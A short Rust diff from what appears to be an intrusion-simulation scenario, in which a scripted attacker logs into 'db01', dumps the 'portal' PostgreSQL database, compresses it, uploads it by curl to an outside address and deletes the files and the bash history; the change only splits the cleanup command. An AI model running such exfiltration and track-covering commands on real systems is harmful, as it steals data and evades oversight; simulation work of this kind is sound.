@@ -192,11 +192,12 @@ fn database(stage: &mut Stage<'_>, at: Moment) {
     let from = stage.address("bastion01");
     let identity = servers::password_login(stage.scene, server, at, ACCOUNT, &from);
     stage.cast.identity = Some(identity);
-    let commands: [&[&str]; 4] = [
+    let commands: [&[&str]; 5] = [
         &["/usr/bin/pg_dump", "-h", "localhost", "-U", "portal", "-f", "/tmp/.p.sql", "portal"],
         &["/usr/bin/tar", "-czf", "/tmp/.p.tgz", "/tmp/.p.sql"],
         &["/usr/bin/curl", "-s", "-T", "/tmp/.p.tgz", "http://198.51.100.23/in/"],
-        &["/usr/bin/rm", "-f", "/tmp/.p.sql", "/tmp/.p.tgz", "/home/ftpsync/.bash_history"],
+        &["/usr/bin/rm", "-f", "/tmp/.p.sql", "/tmp/.p.tgz"],
+        &["/usr/bin/rm", "-f", "/home/ftpsync/.bash_history"],
     ];
     run(stage, at + seconds(20), "db01", &commands);
     let from = stage.address("db01");
